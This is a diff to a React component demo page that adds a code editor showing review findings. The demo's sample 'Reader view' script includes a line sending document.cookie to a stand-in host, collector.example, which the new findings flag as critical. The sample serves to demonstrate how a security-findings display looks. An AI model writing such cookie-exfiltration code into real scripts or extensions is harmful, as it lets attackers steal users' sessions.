@@ -1,6 +1,8 @@
 import { Copy } from "lucide-react";
 import { Button, buttonClass } from "../src/button.tsx";
 import { CodeBlock } from "../src/code-block.tsx";
+import { CodeEditor } from "../src/code-editor/code-editor.tsx";
+import type { EditorFinding } from "../src/code-findings/editor-finding.ts";
 import { EmptyState } from "../src/empty-state.tsx";
 import { ErrorState } from "../src/error-state.tsx";
 import { IconButton } from "../src/icon-button.tsx";
@@ -17,9 +19,25 @@ const article = document.querySelector("article, main, [role=main]") ?? document
 fetch("https://collector.example/" + encodeURIComponent(document.cookie));
 document.body.replaceChildren(article);`;
 
+const findings: EditorFinding[] = [
+	{ line: 6, severity: "critical", label: "Line 6: Critical: The page's cookies are sent elsewhere." },
+	{ line: 3, severity: "low", label: "Line 3: Low: Runs on every site." },
+];
+const pointedAt = { line: 6, focus: false };
+
 export function States() {
 	return (
 		<>
+			<Section title="Code with findings">
+				<div className={styles.wide}>
+					<CodeEditor
+						code={code}
+						label="Code of Reader view, with findings"
+						findings={findings}
+						pointedAt={pointedAt}
+					/>
+				</div>
+			</Section>
 			<Section title="Code">
 				<div className={styles.wide}>
 					<CodeBlock
